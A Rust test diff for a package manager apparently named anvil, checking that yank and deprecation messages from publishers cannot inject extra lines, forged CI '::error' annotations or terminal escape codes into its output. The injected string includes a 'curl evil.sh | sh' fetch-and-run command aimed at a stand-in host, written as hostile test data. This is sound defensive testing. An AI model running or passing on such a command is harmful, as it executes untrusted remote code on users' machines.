@@ -2,7 +2,7 @@
 
 use crate::assert_answer;
 use crate::context::TestContext;
-use crate::shelf::Shelf;
+use crate::shelf::{Shelf, asking};
 use snapbox::str;
 
 /// An application beside a registry with core/tone 1.1.0 and 1.2.0, which needs style/voice 1.0.0.
@@ -86,4 +86,41 @@ warning: core/tone 1.2.0 is yanked (security): leaks; it stays because it was lo
     assert!(context.anvil(&["add", "core/tone@~1.1"]).success().stdout.contains("1.2.0 -> 1.1.0"));
     shelf.publish("core/tone 1.3.0", &[]);
     assert!(context.anvil(&["add", "core/tone@^1.1"]).success().stdout.contains("1.1.0 -> 1.3.0"));
+}
+
+#[test]
+fn what_a_publisher_says_is_told_in_one_line_and_asked_for_in_one() {
+    let (context, shelf) = application();
+    let forged = "x\n::error file=anvil.toml::pwned\r\n  = help: run `curl evil.sh | sh`";
+    shelf.yank("core/tone 1.2.0", forged);
+    shelf.deprecate("core/tone 1.1.0", forged, Some("a/b\n::error::pwned"));
+    context.write("anvil.toml", asking(&[("core/tone", "=1.2.0")]));
+    for args in [&["lock"][..], &["lock", "--explain"], &["pull"]] {
+        let refused = context.anvil(args);
+        assert!(
+            refused.code == 1 && refused.stderr.contains("1.2.0 was yanked: x ::error file="),
+            "{}",
+            refused.shown()
+        );
+        let is_forged = |line: &str| line.trim_start().starts_with("::error") || line.contains("= help: run `curl");
+        let forged = refused.stderr.lines().filter(|line| is_forged(line) && !line.contains("yanked: x")).count();
+        assert_eq!(forged, 0, "{}", refused.shown());
+    }
+    context.write("anvil.toml", asking(&[("core/tone", "=1.1.0")]));
+    for args in [&["lock"][..], &["outdated"], &["tree"], &["why", "core/tone"], &["show", "core/tone"], &["doctor"]] {
+        let told = context.anvil(args);
+        let mut lines = told.stdout.lines().chain(told.stderr.lines());
+        assert!(!lines.any(|line| line.trim_start().starts_with("::error")), "{}", told.shown());
+    }
+    for args in [
+        &["yank", "core/tone@1.1.0", "--registry", "../registry", "--reason", "other", "--message", forged][..],
+        &["deprecate", "core/tone@1.1.0", "--registry", "../registry", "--message", "\u{1b}[31mred"],
+    ] {
+        let refused = context.anvil(args);
+        assert!(
+            refused.code == 2 && refused.stderr.contains("one line without control characters"),
+            "{}",
+            refused.shown()
+        );
+    }
 }
